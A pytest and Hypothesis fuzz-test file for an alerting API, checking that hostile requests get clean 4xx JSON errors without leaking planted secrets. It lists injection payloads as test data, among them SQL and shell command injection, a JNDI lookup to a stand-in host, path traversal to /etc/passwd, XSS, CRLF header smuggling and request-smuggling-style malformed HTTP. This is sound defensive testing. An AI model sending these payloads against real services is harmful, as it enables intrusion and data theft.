"""Hostile requests against the API — through ``handlers.api.main_handler`` and the real HTTP bridge.

Injection strings, unicode, wrong types, huge and deep bodies, repeated headers and bad tokens of odd
lengths always get a 4xx JSON error (or a 2xx where the request is in fact valid): never a 500, never a
traceback, never an uncaught exception, and never a secret — planted in the environment, in channel
configuration, or echoed back by the caller — in the answer or in a log record.
"""

from __future__ import annotations

import json
import logging
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import lib.api
from handlers.api import main_handler
from lib.api.events import MAX_BODY
from lib.api.http_bridge import ApiServer
from tests.api_fixtures import DING_SECRET, DING_TOKEN, TOKENS, WECOM_KEY, event, make_app

SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

ENV_SECRETS = {
    "TENCENTCLOUD_SECRETID": "AKIDfuzzsecretid0001",
    "TENCENTCLOUD_SECRETKEY": "tcsecretkey-abcdef0123456789",
    "TENCENTCLOUD_SESSIONTOKEN": "sessiontoken-77aa88bb99cc",
    "WECOM_URL": f"https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key={WECOM_KEY}",
    "DINGTALK_SECRET": DING_SECRET,
    "SLACK_URL": "https://hooks.slack.com/services/T000/B000/slackhook3c9f",
}
# Everything that must never appear in an answer or a log line: API tokens, cloud keys, webhook keys.
SECRETS = (*TOKENS, *ENV_SECRETS.values(), WECOM_KEY, DING_TOKEN, DING_SECRET, "slackhook3c9f")
ALLOWED = {200, 201, 400, 401, 404, 405, 413, 422}

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE silences; --",
    "$(touch /tmp/pwned)",
    "`id`",
    "; cat /etc/passwd",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil/a}",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..%2F..%2F",
    "\x00",
    "\r\nSet-Cookie: x=1",
    "\u202eedge\u200b",
    "\ud800",
    "流量预算💸",
    "a" * 5000,
    "key=leaked-looking-value",
    # A caller that sends a whole secret must not get it shown back (fragments are the config's own).
    *TOKENS,
    *ENV_SECRETS.values(),
]
hostile_text = st.sampled_from(INJECTIONS) | st.text(max_size=30)
# Path normalisation folds '//' so a whole webhook URL in a path is no longer the value that is masked;
# only secrets that survive normalisation unchanged are echoed through paths.
path_text = st.sampled_from([i for i in INJECTIONS if "://" not in i]) | st.text(max_size=30)
json_scalars = st.none() | st.booleans() | st.integers() | st.floats() | hostile_text
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_text, inner, max_size=3),
    max_leaves=15,
)
routes = st.sampled_from(
    [
        ("GET", "/health"),
        ("GET", "/status"),
        ("GET", "/usage"),
        ("POST", "/check"),
        ("GET", "/alerts"),
        ("GET", "/silences"),
        ("POST", "/silences"),
        ("DELETE", "/silences/sil_0123456789abcdef"),
        ("GET", "/openapi.json"),
    ]
)
silence_bodies = st.fixed_dictionaries(
    {},
    optional={
        "matchers": st.dictionaries(
            st.sampled_from(["budget", "zone-id", "host", "proxy-id", "region-id"]) | hostile_text,
            st.sampled_from(["edgeone-traffic", "edge*"]) | hostile_text | json_values,
            max_size=3,
        )
        | json_values,
        "duration": st.sampled_from(["2h", "1h30m", "99999999999999999999w"]) | hostile_text | json_values,
        "ends_at": st.sampled_from(["2026-11-23T00:00:00Z", "9999-12-31T23:59:59-23:59"]) | hostile_text,
        "starts_at": st.sampled_from(["2026-11-22T03:00:00+08:00", "0001-01-01T00:00:00+14:00"]) | hostile_text,
        "comment": hostile_text | json_values,
    },
)
check_bodies = st.fixed_dictionaries(
    {},
    optional={
        "dry_run": st.booleans() | json_values,
        "at": st.sampled_from(["2026-11-21T00:00:00Z", "1999-01-01T00:00:00Z", "2026-11-21"]) | hostile_text,
    },
)


@contextmanager
def captured_logs() -> Iterator[list[logging.LogRecord]]:
    """Every log record while the block runs (caplog cannot be shared with hypothesis' repeated calls)."""
    records: list[logging.LogRecord] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    handler, root = Keep(logging.DEBUG), logging.getLogger()
    previous = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield records
    finally:
        root.removeHandler(handler)
        root.setLevel(previous)


def _app() -> Any:
    app = make_app()
    app.environ = {**app.environ, **ENV_SECRETS}
    return app


def call(ev: Any, app: Any = None) -> tuple[int, dict[str, str], Any]:
    """The handler's answer, checked against the contract; returns (status, headers, parsed body)."""
    lib.api.set_app(_app() if app is None else app)
    try:
        with captured_logs() as records:
            response = main_handler(ev, {"request_id": "fuzz-1"})
    finally:
        lib.api.set_app(None)
    return check_answer(response, records)


def check_answer(response: Any, records: list[logging.LogRecord]) -> tuple[int, dict[str, str], Any]:
    assert set(response) == {"isBase64Encoded", "statusCode", "headers", "body"}
    status, headers, text = response["statusCode"], response["headers"], response["body"]
    assert status in ALLOWED, text[:500]
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in headers.items())
    assert all("\r" not in v and "\n" not in v for v in headers.values())
    text.encode("utf-8")  # what the gateway and the bridge send must be valid UTF-8
    media = headers.get("Content-Type", "application/json")
    if not media.startswith("application/json"):
        # The dashboard's and the links' pages and charts: HTML or an image, never a stack trace or a secret.
        assert media.startswith(("text/html", "image/svg+xml", "image/png")), media
        body = None
    else:
        body = json.loads(text) if text else None
    if status >= 400 and media.startswith("application/json"):
        assert body is not None
        assert set(body) == {"error"}
        assert isinstance(body["error"]["code"], str) and body["error"]["code"]
        assert isinstance(body["error"]["message"], str) and body["error"]["message"]
    everything = text + json.dumps(headers) + "\n".join(r.getMessage() for r in records)
    assert "Traceback" not in everything
    for secret in SECRETS:
        assert secret not in everything, f"{secret!r} leaked"
    assert not any(r.levelno >= logging.ERROR for r in records), [r.getMessage() for r in records]
    return status, headers, body


@st.composite
def hostile_events(draw: st.DrawFn) -> dict[str, Any]:
    method, path = draw(routes)
    if draw(st.integers(0, 4)) == 0:
        path = draw(st.sampled_from(["/silences/", "/status/", "/release/check", "/"])) + draw(path_text)
    body: Any = None
    if method == "POST":
        body = draw(silence_bodies if path == "/silences" else check_bodies)
        if draw(st.integers(0, 5)) == 0:
            body = draw(json_values)
    token = draw(st.sampled_from([TOKENS[0], TOKENS[1], None]) | hostile_text)
    query = draw(
        st.dictionaries(
            st.sampled_from(["budget", "group", "limit", "cursor", "runs", "expired"]) | hostile_text,
            hostile_text | st.sampled_from(["edgeone-traffic", "zone-id=zone-a", "5", "²", "١٢"]),
            max_size=3,
        )
    )
    headers = draw(st.dictionaries(hostile_text, hostile_text, max_size=2))
    if draw(st.booleans()):
        headers["Idempotency-Key"] = draw(hostile_text)
    return event(
        method,
        path,
        token=token,
        body=body,
        query=query,
        headers=headers,
        base64_body=draw(st.booleans()),
    )


@SETTINGS
@given(hostile_events())
def test_hostile_requests_get_json_4xx_never_500_nor_secrets(ev: dict[str, Any]) -> None:
    call(ev)


@SETTINGS
@given(hostile_text, hostile_text)
def test_injection_in_a_silence_is_stored_verbatim_never_interpreted(comment: str, host: str) -> None:
    body = {"matchers": {"budget": "edge*", "host": host}, "duration": "2h", "comment": comment}
    status, _, doc = call(event("POST", "/silences", body=body))
    if status == 201:
        # Stored as sent (less surrounding white space), except key=... and secrets, masked on the way out.
        if "=" not in comment and not any(s in comment for s in SECRETS):
            assert doc["comment"].strip() == comment.strip()
        if "=" not in host and not any(s in host for s in SECRETS):
            assert doc["matchers"]["host"].strip() == host.strip()
    else:
        assert status == 400


# --- tokens -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "token",
    [
        "",
        "x",
        "xy",
        TOKENS[0][:-1],
        TOKENS[0] + "x",
        TOKENS[0][:1],
        TOKENS[0].upper(),
        "x" * 31,
        "x" * 32,
        "x" * 33,
        "x" * 64,
        "x" * 255,
        "x" * 4096,
        "x" * 60_000,
        "\x00" * 20,
        "\ud800" * 3,
        "токен-токен-токен",
        f"{TOKENS[0]}\x00",
        f"{TOKENS[0]},{TOKENS[1]}",
        f"{TOKENS[0]} {TOKENS[1]}",
    ],
    ids=lambda t: f"len{len(t)}",
)
def test_bad_tokens_of_any_length_are_401_and_never_echoed(token: str) -> None:
    status, headers, body = call(event("GET", "/status", token=None, headers={"Authorization": f"Bearer {token}"}))
    assert status == 401 and headers["WWW-Authenticate"].startswith("Bearer")
    if len(token) >= 4:
        assert token not in json.dumps(body)


@pytest.mark.parametrize(
    "header",
    [
        f"bearer {TOKENS[0]}",
        f"BEARER   {TOKENS[1]}  ",
        f"  Bearer {TOKENS[0]}",
    ],
)
def test_scheme_case_and_spaces_do_not_matter(header: str) -> None:
    assert call(event("GET", "/status", token=None, headers={"Authorization": header}))[0] == 200


@pytest.mark.parametrize(
    "value",
    [
        [f"Bearer {TOKENS[0]}", "Bearer nope"],  # a repeated header, as a gateway may pass it
        f"Bearer {TOKENS[0]}, Bearer nope",
        f"Basic {TOKENS[0]}",
        TOKENS[0],
        "Bearer",
        "Bearer ",
    ],
)
def test_repeated_or_malformed_authorization_is_401(value: Any) -> None:
    status, _, _ = call(event("GET", "/status", token=None, headers={"Authorization": value}))
    assert status == 401


def test_an_unset_token_refuses_everything_but_health() -> None:
    app = make_app(tokens=())
    for method, path in [("GET", "/status"), ("POST", "/check"), ("DELETE", "/silences/x")]:
        assert call(event(method, path, token="anything"), app)[0] == 401
    assert call(event("GET", "/health", token=None), app)[0] == 200


# --- bodies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "fields"),
    [
        ("/check", {"dry_run": "yes please"}, {"dry_run"}),
        ("/check", {"dry_run": [True]}, {"dry_run"}),
        ("/check", {"at": True}, {"at"}),
        ("/check", {"at": "2026-11-21T00:00:00"}, {"at"}),  # no offset
        ("/check", {"at": 1e300}, {"at"}),
        ("/check", {"at": "1999-01-01T00:00:00Z"}, {"at"}),
        ("/check", {"colour": "red"}, {"colour"}),
        ("/silences", {"matchers": "budget=edge*", "duration": "1h"}, {"matchers"}),
        ("/silences", {"matchers": {"budget": 5}, "duration": "1h"}, {"matchers.budget"}),
        ("/silences", {"matchers": {"nope": "x"}, "duration": "1h"}, {"matchers.nope"}),
        ("/silences", {"matchers": {}, "duration": "1h"}, {"matchers"}),
        ("/silences", {"matchers": {"budget": "a*b"}, "duration": "1h"}, {"matchers"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": 3600}, {"duration"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": "' OR 1=1 --"}, {"duration"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": "99999999999999999999w"}, {"duration"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": "1h", "comment": ["x"]}, {"comment"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": "1h", "comment": "x" * 1001}, {"comment"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "ends_at": "9999-12-31T23:59:59-23:59"}, {"ends_at"}),
        ("/silences", {"matchers": {"budget": "edge*"}, "duration": "1h", "starts_at": "{{7*7}}"}, {"starts_at"}),
        ("/silences", {"matchers": {"budget": "' OR 1=1 --"}, "duration": "1h"}, {"matchers.budget"}),
    ],
)
def test_wrong_types_and_hostile_values_are_400_naming_each_field(path: str, body: Any, fields: set[str]) -> None:
    status, _, doc = call(event("POST", path, body=body))
    assert status == 400
    named = {d["field"] for d in doc["error"].get("details", [])}
    assert fields <= named, doc


@pytest.mark.parametrize(
    ("path", "body"),
    [("/check", "[]"), ("/check", '"text"'), ("/check", "5"), ("/silences", "null"), ("/silences", "[{}]")],
)
def test_json_that_is_not_an_object_is_400(path: str, body: str) -> None:
    status, _, doc = call(event("POST", path, body=body))
    if body == "null":  # an empty body: every required field is missing
        assert status == 400 and doc["error"]["code"] == "invalid_input"
    else:
        assert status == 400 and doc["error"]["details"] == [{"field": "body", "message": doc["error"]["message"]}]


@pytest.mark.parametrize(
    ("body", "b64", "status"),
    [
        ("x" * (MAX_BODY + 1), False, 413),
        ("[" * 50_000 + "]" * 15_000, False, 400),
        ("[" * 30_000 + "]" * 30_000, False, 400),
        ('{"dry_run": ' + "9" * 5000 + "}", False, 400),
        ('{"dry_run": NaN}', False, 400),
        ("\xff\xfe not utf-8", False, 400),
        ("@@@not base64@@@", True, 400),
    ],
    ids=["too-large", "unbalanced-deep", "deep", "huge-int", "nan", "latin1", "bad-base64"],
)
def test_huge_deep_and_malformed_bodies(body: str, b64: bool, status: int) -> None:
    ev = event("POST", "/check", body=None)
    ev.update(body=body, isBase64Encoded=b64)
    started = time.perf_counter()
    assert call(ev)[0] == status
    assert (
        time.perf_counter() - started < 20.0
    )  # a hang guard: the refusal is immediate, the margin is for loaded machines


# --- a broken deployment: the App cannot be built ---------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "timezone: ${TENCENTCLOUD_SECRETKEY}\n",
        "language: ${PLAIN}\nbudgets: [{name: '${PLAIN}!', source: teo, metric: '${SLACK_URL}'}]\n",
        "channels: {ops: {type: wecom, url: '${WECOM_URL}'}}\nbudgets: [{name: b, source: teo, metric: acc_flux, "
        "limit: '${DINGTALK_SECRET}', channels: ['${TENCENTCLOUD_SESSIONTOKEN}']}]\n",
        "a: &a [*a]\n",
        "timezone: \x00\n",
    ],
    ids=["tz", "names", "limit", "cycle", "nul"],
)
def test_a_broken_configuration_is_a_503_without_secrets(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "budgets.yaml"
    path.write_text(text, encoding="utf-8")
    for key, value in {**ENV_SECRETS, "PLAIN": "plainvalue-hidden-c0ffee"}.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("BUDGET_API_TOKEN", ",".join(TOKENS))
    monkeypatch.setenv("BUDGET_CONFIG", str(path))
    monkeypatch.setenv("BUDGET_STATE", "memory://fuzz-api")
    caplog.set_level(logging.DEBUG)
    lib.api.set_app(None)
    try:
        status = main_handler(event("GET", "/status"), {})
        health = main_handler(event("GET", "/health", token=None), {})
    finally:
        lib.api.set_app(None)
    assert health["statusCode"] == 200
    assert status["statusCode"] == 503
    doc = json.loads(status["body"])
    assert doc["error"]["code"] == "not_configured"
    everything = status["body"] + "\n".join(r.getMessage() for r in caplog.records)
    for secret in (*SECRETS, "plainvalue-hidden-c0ffee"):
        assert secret not in everything


# --- the real HTTP bridge -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bridge() -> Iterator[ApiServer]:
    with ApiServer(app=_app()) as srv:
        yield srv


@pytest.fixture
def server(bridge: ApiServer) -> ApiServer:
    lib.api.set_app(bridge.app)  # a handler test in between may have reset the instance's App
    return bridge


def exchange(port: int, request: bytes) -> tuple[int | None, dict[str, str], bytes]:
    """Send raw bytes, read until the server closes; returns (status or None for HTTP/0.9, headers, body)."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request)
        sock.shutdown(socket.SHUT_WR)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    if not data.startswith(b"HTTP/"):
        return None, {}, data
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return int(lines[0].split()[1]), headers, body


AUTH = f"Authorization: Bearer {TOKENS[0]}\r\n".encode()
CLOSE = b"Connection: close\r\n"


@pytest.mark.parametrize(
    ("request_bytes", "status"),
    [
        (b"GET /status HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 200),
        (b"GET /status HTTP/1.1\r\n" + AUTH + b"Authorization: Bearer nope\r\n" + CLOSE + b"\r\n", 401),
        (b"GET /alerts?limit=1&limit=999 HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 200),  # the first one counts
        (b"GET /alerts?limit=%C2%B2 HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 400),
        (b"GET /%F0%9F%92%A5/..%2F..%2Fetc%2Fpasswd HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 404),
        (b"GET /%ff%fe%00 HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 404),
        ("GET /流量 HTTP/1.1\r\n".encode() + AUTH + CLOSE + b"\r\n", 404),
        (b"GET /status%0d%0aX-Injected:%201 HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 404),
        (b"GET /usage?budget=%27%20OR%201%3D1%20-- HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 404),
        (b"GET /status HTTP/1.1\r\nAuthorization: Bearer \xff\xfe\x00\r\n" + CLOSE + b"\r\n", 401),
        (b"GET /status HTTP/1.1\r\nAuthorization: Bearer " + b"x" * 8000 + b"\r\n" + CLOSE + b"\r\n", 401),
        (b"TRACE /status HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 405),
        (b"FOO /status HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 405),
        ("GËT /status HTTP/1.1\r\n".encode() + AUTH + CLOSE + b"\r\n", 400),
        (b"POST /check HTTP/1.1\r\nContent-Length: abc\r\n" + AUTH + b"\r\n", 400),
        (b"POST /check HTTP/1.1\r\nContent-Length: -5\r\n" + AUTH + b"\r\n", 400),
        (b"POST /check HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 9\r\n" + AUTH + b"\r\n{}", 400),
        (b"POST /check HTTP/1.1\r\nContent-Length: 99999999\r\n" + AUTH + b"\r\n" + b"x" * (MAX_BODY + 1), 413),
        (
            b"POST /check HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
            + AUTH
            + b"\r\n10000\r\n"
            + b"x" * 65536
            + b"\r\n10\r\n"
            + b"y" * 16
            + b"\r\n0\r\n\r\n",
            413,
        ),
        (b"POST /check HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" + AUTH + b"\r\nzz\r\n", 400),
        (
            b"POST /check HTTP/1.1\r\nContent-Length: 60000\r\n" + AUTH + CLOSE + b"\r\n" + b"[" * 30000 + b"]" * 30000,
            400,
        ),
        (b"POST /silences HTTP/1.1\r\nContent-Length: 2\r\n" + AUTH + CLOSE + b"\r\n\xff\xfe", 400),
        (b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\n\r\n", 414),
        (b"GET /status HTTP/1.1\r\nX: " + b"a" * 70_000 + b"\r\n\r\n", 431),
        (b"GET /status HTTP/1.1\r\n" + b"".join(b"X%d: 1\r\n" % i for i in range(200)) + b"\r\n", 431),
        (b"GET status HTTP/1.1\r\n" + AUTH + CLOSE + b"\r\n", 400),
        (b"GARBAGE\r\n\r\n", None),
    ],
    ids=lambda v: None if isinstance(v, bytes) else str(v),
)
def test_raw_http_requests_get_json_answers(server: ApiServer, request_bytes: bytes, status: int | None) -> None:
    with captured_logs() as records:
        got, headers, body = exchange(server.port, request_bytes)
    assert got == status, body[:300]
    if got is not None:
        assert headers["content-type"].startswith("application/json")
        assert int(headers["content-length"]) == len(body)
    doc = json.loads(body)
    if status is None or status >= 400:
        assert set(doc) == {"error"} and doc["error"]["code"] and doc["error"]["message"]
    text = body.decode("utf-8") + "\n".join(r.getMessage() for r in records)
    assert "Traceback" not in text and "<html" not in text.lower()
    for secret in SECRETS:
        assert secret not in text
    assert "x-injected" not in headers


def test_a_ten_megabyte_body_is_refused_without_reading_it(server: ApiServer) -> None:
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
        sock.sendall(b"POST /check HTTP/1.1\r\nContent-Length: 10000000\r\n" + AUTH + b"\r\n")
        started = time.perf_counter()
        sent = 0
        try:
            while sent < 10_000_000:  # the server answers after MAX_BODY + 1 bytes and closes
                sock.sendall(b"x" * 65536)
                sent += 65536
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except ConnectionResetError:
            pass
    assert answer.startswith(b"HTTP/1.1 413 "), answer[:200]
    assert (
        time.perf_counter() - started < 30.0
    )  # a hang guard: the refusal is immediate, the margin is for loaded machines
